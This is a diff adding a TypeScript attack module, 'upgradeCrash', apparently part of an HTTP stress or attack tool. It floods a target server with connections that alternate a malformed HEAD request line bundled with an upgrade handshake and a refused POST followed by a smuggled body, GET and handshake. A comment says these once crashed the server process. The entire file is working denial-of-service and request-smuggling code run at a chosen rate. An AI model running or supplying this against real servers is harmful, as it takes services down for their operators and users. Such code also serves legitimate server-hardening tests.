@@ -1,0 +1,33 @@
+/** Handshakes behind requests that the connection should have ended with: they ended the process once. */
+import type { Socket } from 'node:net'
+import type { Attack, Target } from './attack.ts'
+import { printHandshake } from './handshake.ts'
+
+const BODY = 'hello'
+/** The connection is left after this time, whatever came. */
+const LEAVE_MS = 2_000
+
+/** All at once: a request line without a version's space in front, and the handshake. */
+function sendTogether(socket: Socket, { host }: Target): void {
+  const first = `HEAD /x?n=100HTTP/1.0\r\nHost: a\r\nConnection: keep-alive, X\r\n\r\n`
+  socket.write(first + printHandshake(host, '/'))
+}
+
+/** A POST that is refused before its body comes; then, on the connection that lingers, the body, a GET and the handshake. */
+function sendAfterRefusal(socket: Socket, { host }: Target): void {
+  socket.write(`POST / HTTP/1.1\r\nHost: ${host}\r\nExpect: something\r\nContent-Length: ${BODY.length}\r\n\r\n`)
+  socket.once('data', () => {
+    socket.write(`${BODY}GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n${printHandshake(host, '/')}`)
+  })
+}
+
+/** The two take turns. */
+export const upgradeCrash: Attack = (target, swarm, { perSecond }) => {
+  let turn = 0
+  swarm.repeat(1000 / Number(perSecond), () => {
+    const send = turn++ % 2 === 0 ? sendTogether : sendAfterRefusal
+    const socket = swarm.connect(target.http, 'plain', () => send(socket, target))
+    socket.resume()
+    setTimeout(() => socket.destroy(), LEAVE_MS)
+  })
+}
